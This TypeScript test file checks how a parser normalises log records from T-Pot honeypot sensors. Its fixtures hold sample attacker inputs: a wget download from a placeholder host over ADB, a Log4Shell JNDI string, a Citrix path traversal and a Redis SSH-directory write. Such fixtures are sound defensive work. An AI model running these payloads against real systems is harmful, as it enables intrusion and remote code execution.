/** Made after the sensors' own documents and T-Pot's logstash.conf: none of them was run here. */
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import type { JsonObject } from '../../src/core/event.ts';
import { readSensorValues } from '../../src/ingest/read-values.ts';
import { findTpotKind, tpotKinds } from '../../src/ingest/tpot-kinds/index.ts';

const around = {
  '@timestamp': '2026-11-24T07:33:10.000Z',
  src_ip: '203.0.113.9',
  src_port: 40112,
  't-pot_hostname': 'quietlake',
  geoip: { country_name: 'x' },
};
type Expected = [kind: string, service: string, payload: RegExp];
const vectors: readonly [record: JsonObject, expected: Expected | null][] = [
  [
    { type: 'Adbhoney', eventid: 'adbhoney.command.input', input: 'cd /data/local/tmp; wget http://x/y' },
    ['command.run', 'adb', /^cd \/data/],
  ],
  [{ type: 'Adbhoney', eventid: 'adbhoney.session.connect' }, ['connection.opened', 'adb', /^$/]],
  [{ type: 'Adbhoney', eventid: 'adbhoney.session.closed' }, ['connection.closed', 'adb', /^$/]],
  [
    { type: 'Adbhoney', eventid: 'adbhoney.session.file_upload', outfile: 'ab12.raw', shasum: 'ab12' },
    ['file.uploaded', 'adb', /^ab12\.raw$/],
  ],
  [
    { type: 'Ciscoasa', payload_printable: '"GET /+CSCOE+/logon.html HTTP/1.1" 200 -' },
    ['payload.received', 'https', /CSCOE/],
  ],
  [
    { type: 'CitrixHoneypot', method: 'GET', path: '/vpn/../vpns/cfg/smb.conf', user_agent: 'curl' },
    ['http.request', 'https', /^GET \/vpn\/\.\.\/vpns/],
  ],
  [
    { type: 'ConPot', data_type: 'modbus', request: '000000000005002b0e0200', sensorid: 'c', dest_port: 502 },
    ['payload.received', 'modbus', /^0000/],
  ],
  [
    { type: 'ConPot', data_type: 's7comm', event_type: 'NEW_CONNECTION', sensorid: 'c' },
    ['connection.opened', 's7comm', /^$/],
  ],
  [
    {
      type: 'ConPot',
      protocol: 'modbus',
      request: '000000000005002b0e0200',
      session_id: 'c',
      dest_port: 502,
    },
    ['payload.received', 'modbus', /^000000000005/],
  ],
  [
    { type: 'ConPot', protocol: 's7comm', session_id: 'c', dest_port: 102 },
    ['connection.opened', 's7comm', /^$/],
  ],
  [{ type: 'Ddospot', req_size: 50, dest_port: 123 }, ['connection.opened', 'ddospot', /^$/]],
  [
    { type: 'Dicompot', Command: 'C-ECHO', IP: '203.0.113.9', Port: '40112', Identifier: 'ANY-SCP' },
    ['payload.received', 'dicom', /^C-ECHO ANY-SCP$/],
  ],
  [
    {
      type: 'ElasticPot',
      eventid: 'elasticpot.attack',
      request: 'POST',
      url: '/_search?pretty',
      payload: '{"script_fields":1}',
    },
    ['http.request', 'elasticsearch', /^POST \/_search\?pretty HTTP[\s\S]*script_fields/],
  ],
  [{ type: 'Endlessh', dest_port: 22 }, ['connection.opened', 'ssh', /^$/]],
  [
    { type: 'Galah', method: 'GET', path: '/.env', headers: { 'User-Agent': 'curl' } },
    ['http.request', 'http', /^GET \/\.env/],
  ],
  [{ type: 'Glutton', payload: 'GET / HTTP/1.0', dest_port: 81 }, ['payload.received', 'glutton', /^GET/]],
  [{ type: 'Gopot', method: 'GET', path: '/admin' }, ['http.request', 'http', /^GET \/admin/]],
  [
    { type: 'H0neytr4p', request_method: 'GET', request_uri: '/mgmt' },
    ['http.request', 'https', /^GET \/mgmt/],
  ],
  [
    { type: 'Hellpot', message: 'NEW', url: '/wp-login.php', method: 'GET' },
    ['http.request', 'http', /wp-login/],
  ],
  [{ type: 'Honeyaml', method: 'POST', path: '/login', body: 'a=1' }, ['http.request', 'http', /a=1$/]],
  [
    {
      type: 'Honeytrap',
      attack_connection: {
        protocol: 'tcp',
        remote_ip: '203.0.113.9',
        remote_port: 40112,
        local_port: 8088,
        payload: { data_hex: '474554202f20485454502f312e31', length: 14 },
      },
    },
    ['payload.received', 'tcp', /^GET \/ HTTP\/1\.1$/],
  ],
  [
    {
      type: 'Honeytrap',
      src_ip: '0.0.0.0',
      attack_connection: { remote_ip: '0.0.0.0', payload: { data_hex: '' } },
    },
    null,
  ],
  [
    { type: 'Ipphoney', request: 'POST', url: '/ipp/print', query: '{}' },
    ['http.request', 'ipp', /^POST \/ipp/],
  ],
  [
    { type: 'Log4pot', request: 'GET /?x=${jndi:ldap://x/a} HTTP/1.1', client: '203.0.113.9' },
    ['http.request', 'http', /jndi/],
  ],
  [
    { type: 'Mailoney', username: 'a@example.org', password: 'x' },
    ['login.failed', 'smtp', /^a@example\.org:x$/],
  ],
  [{ type: 'Mailoney', data: 'EHLO x' }, ['payload.received', 'smtp', /^EHLO x$/]],
  [{ type: 'Medpot', dest_port: 2575, message: 'MSH|^~' }, ['payload.received', 'hl7', /^MSH/]],
  [
    { type: 'Miniprint', event: 'command_received', command: '@PJL INFO ID' },
    ['payload.received', 'printer', /PJL/],
  ],
  [{ type: 'Redishoneypot', action: 'NewConnect' }, ['connection.opened', 'redis', /^$/]],
  [{ type: 'Redishoneypot', action: 'CONFIG SET dir /root/.ssh' }, ['command.run', 'redis', /^CONFIG SET/]],
  [
    { type: 'Sentrypeer', sip_method: 'INVITE', sip_message: 'INVITE sip:1 SIP/2.0', called_number: '1' },
    ['payload.received', 'sip', /^INVITE/],
  ],
  [
    { type: 'Tanner', method: 'GET', path: '/?id=1', peer: { ip: '203.0.113.9', port: 1 }, response_msg: {} },
    ['http.request', 'http', /^GET \/\?id=1/],
  ],
  [
    { type: 'Wordpot', url: '/wp-login.php', username: 'admin', password: 'a' },
    ['login.failed', 'http', /^admin:a$/],
  ],
  [{ type: 'Wordpot', url: '/wp-content/x.php' }, ['http.request', 'http', /^GET \/wp-content/]],
  [{ type: 'Fatt', protocol: 'ssh', hassh: 'x' }, ['client.identified', 'ssh', /^$/]],
  [{ type: 'P0f', mod: 'syn', os: 'Linux' }, ['client.identified', 'p0f', /^$/]],
  [
    {
      hpfeed_id: { $oid: '5a06' },
      honeypot: 'dionaea',
      protocol: 'pcap',
      source_ip: '203.0.113.9',
      destination_port: 1344,
    },
    ['connection.opened', 'pcap', /^$/],
  ],
  [
    { channel: 'amun.events', ident: 'eb03', attackerIP: '203.0.113.9', victimPort: '3389.0' },
    ['connection.opened', 'mhn', /^$/],
  ],
  [{ payload_printable: '"GET / HTTP/1.1" 200 -' }, ['payload.received', 'https', /GET/]],
  [{ type: 'NGINX', request: 'GET /' }, null],
];

describe('the sensors of a T-Pot', () => {
  for (const [record, expected] of vectors)
    it(`are read: ${JSON.stringify(record).slice(0, 70)}`, () => {
      const { type } = record;
      const { drafts, skipped, problems } = readSensorValues(
        [{ ...around, ...record }],
        '2026-11-30T00:00:00.000Z',
      );
      assert.deepEqual(problems, [], String(type));
      if (expected === null) {
        assert.deepEqual([drafts.length, skipped], [0, 1]);
        return;
      }
      const [draft] = drafts;
      const [kind, service, payload] = expected;
      assert.deepEqual([draft?.kind, draft?.service, draft?.source_ip], [kind, service, '203.0.113.9']);
      assert.match(draft?.payload ?? '', payload);
      assert.equal(draft?.timestamp, '2026-11-24T07:33:10.000Z');
      assert.equal(draft?.extra?.type, type);
    });

  it('each have a record here', () => {
    const met = new Set(vectors.map(([record]) => findTpotKind({ ...around, ...record })?.title));
    assert.deepEqual(
      tpotKinds.map(({ title }) => title).filter((title) => !met.has(title)),
      [],
    );
  });

  it('that are not known are kept, and counted', () => {
    const { drafts, problems } = readSensorValues(
      [{ ...around, type: 'Brandnew', payload: 'x' }],
      '2026-11-30T00:00:00.000Z',
    );
    assert.equal(drafts[0]?.payload, 'x');
    assert.match(problems[0]?.reason ?? '', /type Brandnew/);
  });
});
